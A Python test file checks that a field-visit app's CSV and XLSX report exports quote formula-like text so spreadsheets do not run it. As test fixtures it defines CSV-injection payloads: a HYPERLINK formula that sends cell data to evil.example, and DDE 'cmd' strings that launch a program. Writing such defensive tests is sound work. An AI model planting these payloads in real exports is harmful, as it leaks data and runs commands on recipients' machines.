"""Issue 13, the data share: spreadsheets that run no formulas, uploads that cannot blow up a worker,
demo data kept to development, phones read only on purpose, tags and imports that leave a mark."""

import csv
import io
import re
import uuid
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import select

from fieldapp.extensions import db
from fieldapp.models import WeeklyReport
from fieldapp.reports.cells import FORMULA_START, safe_cell
from fieldapp.reports.weekly import week_bounds
from fieldapp.visits.rules import VisitInput
from fieldapp.visits.services import record_visit

ROOT = Path(__file__).resolve().parent.parent

# Names a lead controls (forms, imported rosters), each one a formula in a spreadsheet.
GRID = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'
COMMUNITY = "+cmd|' /C calc'!A0"
BUILDING = "@SUM(1+1)*cmd|' /C calc'!A0"
ROOM = "-2+3"


def text_cells_of_csv(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def text_cells_of_xlsx(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_live_formula(cells, expected):
    texts = [cell for cell in cells if isinstance(cell, str)]
    live = [cell for cell in texts if cell.startswith(FORMULA_START)]
    assert live == [], f"cells a spreadsheet would run as formulas: {live}"
    for name in expected:
        assert "'" + name in texts or any(("'" + name) in cell for cell in texts), f"{name!r} missing"


def test_safe_cell_quotes_formula_text_and_leaves_numbers_alone():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("东门一网格") == "东门一网格" and safe_cell("") == ""
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) is None


def test_names_a_lead_typed_reach_no_export_as_live_formulas(world, browser):
    world.a.grid.name, world.a.community.name, world.a.building.name = GRID, COMMUNITY, BUILDING
    world.a.sites[0].unit, world.a.sites[0].room = "", ROOM
    visit, _ = record_visit(world.a.volunteer, world.a.sites[0], VisitInput("talked", 2, 1), str(uuid.uuid4()))
    db.session.commit()
    week = week_bounds(visit.day)[0].isoformat()
    browser.login("district-admin")
    area = world.district.id

    weekly_csv = browser.client.get(f"/reports/weekly.csv?area={area}&week={week}")
    assert_no_live_formula(text_cells_of_csv(weekly_csv.data), [GRID, COMMUNITY])
    weekly_xlsx = browser.client.get(f"/reports/weekly.xlsx?area={area}&week={week}")
    cells = text_cells_of_xlsx(weekly_xlsx.data)
    assert_no_live_formula(cells, [GRID, COMMUNITY])
    assert any(isinstance(cell, int) for cell in cells)  # numbers stay numbers

    visits_csv = browser.client.get(f"/reports/visits.csv?area={area}")
    assert_no_live_formula(text_cells_of_csv(visits_csv.data), [GRID, COMMUNITY, BUILDING, ROOM])
    visits_xlsx = browser.client.get(f"/reports/visits.xlsx?area={area}")
    cells = text_cells_of_xlsx(visits_xlsx.data)
    assert_no_live_formula(cells, [GRID, COMMUNITY, BUILDING, ROOM])
    assert visit.id in cells  # the id column is still a number


def test_a_published_report_freezes_quoted_names_not_formulas(world, browser):
    world.a.grid.name = GRID
    visit, _ = record_visit(world.a.volunteer, world.a.sites[0], VisitInput("talked", 1, 1), str(uuid.uuid4()))
    db.session.commit()
    week = week_bounds(visit.day)[0].isoformat()
    browser.login("a-supervisor")
    assert browser.post("/reports/weekly/publish", {"area": str(world.a.area.id), "week": week}).status_code == 303
    report = db.session.scalar(select(WeeklyReport))
    assert_no_live_formula(text_cells_of_csv(report.csv), [GRID])
    assert_no_live_formula(text_cells_of_xlsx(report.xlsx), [GRID])


def test_no_module_writes_spreadsheet_cells_around_the_one_safe_path():
    """Every CSV writer and openpyxl workbook is made in reports/cells.py, so no export can miss it."""
    allowed = {ROOT / "fieldapp" / "reports" / "cells.py"}
    pattern = re.compile(r"csv\.writer\(|\bWorkbook\(|from openpyxl import[^\n]*\bWorkbook\b|DictWriter\(")
    offenders = [
        str(path.relative_to(ROOT))
        for path in (ROOT / "fieldapp").rglob("*.py")
        if path not in allowed and pattern.search(path.read_text())
    ]
    assert offenders == []
